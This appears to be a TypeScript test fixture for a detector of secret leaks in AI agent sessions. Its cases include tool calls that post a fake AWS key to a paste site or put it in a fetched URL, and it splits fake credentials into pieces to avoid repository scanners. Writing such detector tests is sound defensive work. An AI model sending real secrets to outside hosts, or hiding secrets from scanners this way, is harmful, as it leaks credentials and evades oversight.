import type { SessionCase } from '#detector'
import { call, story } from '../../test/support/story.js'

// Put together here, so that no scanner of repositories takes them for real ones.
const aws = ['AKIA', 'QYLPMN5HFIQR7XYA'].join('')
const github = ['ghp', `_${'a1B2'.repeat(9)}`].join('')

export default [
  {
    name: 'a key is posted to a host of strangers',
    kind: 'fires',
    events: story(call('post_comment', { url: 'https://paste.example/new', text: `key ${aws}` }, 'ok')),
    finds: ['c1'],
    severity: 'high',
  },
  {
    name: 'the same to a host of our own stays in the house',
    kind: 'fires',
    events: story(call('post_comment', { url: 'https://paste.example/new', text: `key ${aws}` }, 'ok')),
    policy: { isOwnDestination: (host) => host === 'paste.example' },
    finds: ['c1'],
    severity: 'low',
  },
  {
    name: 'a key in the link of a page that is read: the host of the page has it now',
    kind: 'fires',
    events: story(call('fetch_page', { url: `https://paste.example/p?k=${aws}` }, 'ok')),
    finds: ['c1'],
    severity: 'medium',
  },
  {
    name: 'a token in what was read, on page after page: told once',
    kind: 'fires',
    events: story(call('read_log', { page: 1 }, `token ${github}`), call('read_log', { page: 2 }, `token ${github}`)),
    finds: ['c1'],
    severity: 'low',
  },
  {
    name: 'a word beside “password” is a hint',
    kind: 'fires',
    events: story(call('read_page', { page: 1 }, 'The password is swordfish, as in the film.')),
    finds: ['c1'],
    severity: 'info',
  },
  {
    name: 'noisy, benign: commit hashes, identifiers, and talk of secrets',
    kind: 'quiet',
    events: story(
      call('git_log', { n: 9 }, '3f786850e387550fdab836ed7e6dc881de23001b fix: rotate the key'),
      call(
        'post_comment',
        { url: 'https://hub.example/pr/7', text: 'Please rotate the API key and update the token.' },
        'ok',
      ),
      call('get_user', { id: 'b7e23ec2-9af2-4b3c-8d3a-1f0a8b1f7c55' }, 'Ann'),
    ),
    finds: [],
  },
] satisfies SessionCase[]
